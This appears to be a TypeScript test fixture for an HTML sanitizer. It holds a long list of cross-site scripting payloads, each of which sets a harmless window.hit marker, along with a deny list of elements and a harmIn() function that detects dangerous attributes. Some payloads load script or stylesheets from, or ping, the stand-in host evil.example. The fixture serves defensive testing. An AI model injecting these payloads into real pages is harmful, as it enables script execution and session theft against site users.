/** Texts of an attacker that try to run script in the browsers of others. Each would set `window.hit`. */
const RUN = 'window.hit=1';

export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script/src="data:text/javascript,${RUN}"></script>`,
  `<<script>${RUN};//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\x20type="text/javascript">${RUN};</script>`,
  `<script\x0Atype="module">${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}">`,
  `<img src="x" onerror='${RUN}' />`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x oNeRrOr=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img src=x onerror\x0B=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<img srcset="x 1x" onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${RUN.replace('w', '&#119;')}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body background="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4="></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0PTE+">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="&#x6A;&#x61;vascript:${RUN}">x</a>`,
  `<a href="\x01javascript:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="//evil.example/x">x</a>`,
  `<a href="https://ok.example" onclick="${RUN}">x</a>`,
  `<a href="https://ok.example" onfocus=${RUN} autofocus tabindex=0>x</a>`,
  `<a href="https://ok.example" ping="https://evil.example" target=_blank>x</a>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="position:fixed;inset:0">over everything</p>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>body{display:none}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN} poster="javascript:${RUN}"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
  `<td onclick=${RUN}>x</td>`,
  `<h2 id="root" name="body" class="MuiModal-root" data-x="1">x</h2>`,
  `<a id=coleira name=session href="#x">x</a>`,
  `<xss onpointerenter=${RUN} style="display:block">x</xss>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `</p></article></main><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

/** All of them in one text, with words that can be looked for at its end. */
export const ALL_PAYLOADS = `${PAYLOADS.map((payload) => `<p>${payload}</p>`).join('\n')}<p>fim da lista</p>`;

/** Names of elements that formatted text never has in the page. */
export const NEVER =
  'script, style, iframe, object, embed, svg, math, img, image, video, audio, source, link, meta, base, form, input, select, textarea, button, details, template, marquee, [style], [id="root"], [name], [class]';

/** What in this tree could run, load, or pass for something of the page's own. */
export function harmIn(root: ParentNode, never = NEVER): string[] {
  const found = [...root.querySelectorAll(never)].map((element) => element.outerHTML.slice(0, 80));
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      // What a browser makes of an address: white space and controls inside a scheme do not count.
      const address = [...value].filter((letter) => letter > ' ').join('');
      if (/^on/i.test(name) || /^(?:javascript|vbscript|data):/i.test(address) || address.startsWith('//'))
        found.push(`${element.tagName} ${name}=${value}`);
    }
  }
  return found;
}
